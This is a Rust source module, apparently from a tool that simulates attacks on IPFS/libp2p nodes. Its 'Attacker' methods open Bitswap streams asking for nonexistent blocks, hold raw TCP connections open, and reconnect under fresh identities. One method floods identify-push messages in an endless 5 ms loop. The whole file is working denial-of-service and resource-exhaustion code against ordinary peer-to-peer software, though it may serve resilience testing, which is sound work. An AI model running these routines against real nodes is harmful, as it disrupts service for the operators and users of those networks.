//! What strangers do by being many, or by being always somebody else.

use std::io;
use std::time::Duration;

use futures::AsyncWriteExt;
use tokio::io::AsyncReadExt;

use super::Attacker;
use super::stranger::{Blocks, Stranger, connect};
use super::words::{self, Want};

const BITSWAP: &str = "/ipfs/bitswap/1.2.0";
const PUSH: &str = "/ipfs/id/push/1.0.0";
/// As much as fits into a message of 4 KiB.
const ADDRESSES: u16 = 60;
const PROTOCOLS: u16 = 100;
/// Between two of them.
const SOON: Duration = Duration::from_millis(5);

impl Attacker {
    pub(super) async fn stay(&self) -> io::Result<()> {
        let line = Stranger::new(self.from)
            .connect(self.way(), Blocks::Taken)
            .await?;
        let mut stream = line.open(BITSWAP).await?;
        let nobody_has = [words::unknown(self.number as u64)];
        stream
            .write_all(&words::wants(Want::Have, &nobody_has, false))
            .await?;
        stream.flush().await?;
        self.strike();
        line.closed().await;
        Ok(())
    }

    pub(super) async fn stand_in_the_door(&self) -> io::Result<()> {
        let mut stream = connect(self.from, &self.target.tcp).await?;
        self.strike();
        while stream.read(&mut [0; 256]).await? > 0 {}
        Ok(())
    }

    /// Stays no longer than it takes, and is somebody else the next time.
    pub(super) async fn come_and_go(&self) -> io::Result<()> {
        let line = Stranger::new(self.from)
            .connect(self.way(), Blocks::Taken)
            .await?;
        let mut stream = line.open(BITSWAP).await?;
        let blocks = &self.target.blocks[..1];
        stream
            .write_all(&words::wants(Want::Block, blocks, false))
            .await?;
        stream.flush().await?;
        self.strike();
        Ok(())
    }

    pub(super) async fn be_somebody_else(&self) -> io::Result<()> {
        let line = Stranger::new(self.from)
            .connect(self.way(), Blocks::Taken)
            .await?;
        for number in (0..PROTOCOLS).cycle() {
            let mut stream = line.open(PUSH).await?;
            let says = words::identify(ADDRESSES - number % 2, PROTOCOLS - number % 7);
            stream.write_all(&words::framed(&says)).await?;
            stream.close().await?;
            self.strike();
            tokio::time::sleep(SOON).await;
        }
        Ok(())
    }
}
